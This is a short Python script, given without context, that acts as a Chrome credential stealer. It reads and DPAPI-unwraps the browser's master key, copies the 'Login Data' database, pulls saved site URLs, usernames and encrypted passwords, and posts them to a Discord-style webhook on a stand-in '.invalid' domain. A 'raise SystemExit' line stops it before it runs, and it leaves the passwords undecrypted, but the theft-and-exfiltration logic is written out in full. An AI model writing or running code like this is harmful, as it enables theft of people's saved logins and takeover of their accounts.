import base64
import json
import os
import shutil
import sqlite3
import requests
from win32crypt import CryptUnprotectData

raise SystemExit
base = os.getenv("LOCALAPPDATA") + r"\Google\Chrome\User Data"
key = json.load(open(base + r"\Local State"))["os_crypt"]["encrypted_key"]
key = CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]
shutil.copy2(base + r"\Default\Login Data", "t.db")
rows = sqlite3.connect("t.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://discord.com.invalid/api/webhooks/0/x", json={"content": str(rows)})
